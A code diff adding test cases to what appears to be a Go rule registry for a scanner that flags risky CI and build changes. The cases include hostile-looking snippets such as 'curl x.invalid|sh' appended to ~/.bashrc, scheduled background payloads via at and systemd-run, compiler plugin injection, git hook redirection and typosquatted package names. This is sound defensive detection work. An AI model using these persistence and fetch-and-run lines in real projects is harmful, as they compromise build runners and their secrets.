@@ -293,6 +293,9 @@ var registry = []Rule{
 		"it outlives this job: the next job on the runner, another project's included, runs it too", []Case{
 			{"x.sh", "echo 'curl x.invalid|sh' >> ~/.bashrc", 0, false},
 			{"x.sh", "sudo cp agent.service /etc/systemd/system/agent.service", 0, false},
+			{"x.sh", "echo '/tmp/.u' | at now + 10 minutes", 0, false},
+			{"x.sh", "systemd-run --user --on-calendar='*:0/10' /tmp/.cache/u", 0, false},
+			{"x.sh", "echo \"look at now what happened\"", 0, true},
 			// A tree under a prefix is not the system's: read or named, not installed.
 			{"install.sh", "p_sh=$NIX_LINK/etc/profile.d/nix.sh\n. \"$nix/etc/profile.d/nix.sh\"", 0, true},
 			{"Makefile", "install:\n\tinstall -m644 t.service $(DESTDIR)/etc/systemd/system/t.service", 0, true},
@@ -326,6 +329,9 @@ var registry = []Rule{
 			{"x.go", "// #cgo LDFLAGS: -Wl,-plugin=/tmp/p.so", 0, false},
 			{"x.go", "// #cgo CFLAGS: -fplugin=./tools/x.so", 0, false},
 			{"x.go", "// #cgo LDFLAGS: -lm", 0, true},
+			{"build.sh", "export CFLAGS=\"$CFLAGS -fplugin=./tools/x.so\"", 0, false},
+			// The shell's edit of a value, removing a flag.
+			{"build.sh", "export CFLAGS=\"${CFLAGS//-fuse-ld=gold/}\"", 0, true},
 		}},
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
@@ -333,6 +339,9 @@ var registry = []Rule{
 			// A gyp command expansion runs while npm installs the package.
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
+			// A function the build script declares itself, named fetch.
+			{"build.zig", "fn fetch(b: *std.Build, url: []const u8) std.Build.LazyPath {\n    return b.path(url);\n}\npub fn build(b: *std.Build) void {\n    _ = fetch(b, \"x\");\n}", 0, true},
+			{"setup.py", "def fetch(u):\n    return urllib.request.urlopen(u)", 2, false},
 		}},
 	{"install-background-process", KindExecute, High, "starts a detached background process from code that runs at install or build",
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
@@ -506,6 +515,7 @@ var registry = []Rule{
 	{"git-hooks", KindScript, High, "points git at hooks the change ships",
 		"every later git command on the runner runs the change's own scripts", []Case{
 			{"x.sh", "git config core.hooksPath .githooks", 0, false},
+			{"x.sh", "git config --global init.templateDir ~/.git-template", 0, false},
 		}},
 	{"git-config-exec", KindExecute, High, "configures a command git runs by itself (filter, textconv, fsmonitor, ssh)",
 		"git runs the configured command on checkout, diff or fetch, without anyone calling it", []Case{
@@ -614,6 +624,9 @@ var registry = []Rule{
 			{"x.sh", "cargo install serdde", 0, false},
 			{"x.sh", "npm i -D @typescript_eslinter/eslint", 0, false},
 			{"x.sh", "go install golang.org/x/tools/cmd/goimports@latest\ngo run ./cmd/gen\ncargo install cargo-deny --locked\nnpm i @types/node", 0, true},
+			// A Go import of a look-alike module: go mod tidy requires it.
+			{"tools/tools.go", "//go:build tools\npackage tools\n\nimport (\n\t_ \"github.com/golangci-lint/golangci-lint/cmd/golangci-lint\"\n)", 5, false},
+			{"main.go", "package main\n\nimport (\n\t\"fmt\"\n\tlog \"github.com/sirupsen/logrus\"\n\t\"golang.org/x/sync/errgroup\"\n\t\"github.com/acme/app/internal/x\"\n)", 0, true},
 			// A Nix flake input from a look-alike owner.
 			{"flake.nix", "{\n  inputs.nixpkgs.url = \"github:NixO5/nixpkgs/nixos-24.05\";\n}", 2, false},
 			{"flake.nix", "{\n  inputs = {\n    nixpkgs.url = \"github:NixOS/nixpkgs/nixos-unstable\";\n    home-manager.url = \"github:nix-community/home-manager\";\n    utils.url = \"github:numtide/flake-utils\";\n  };\n}", 0, true},
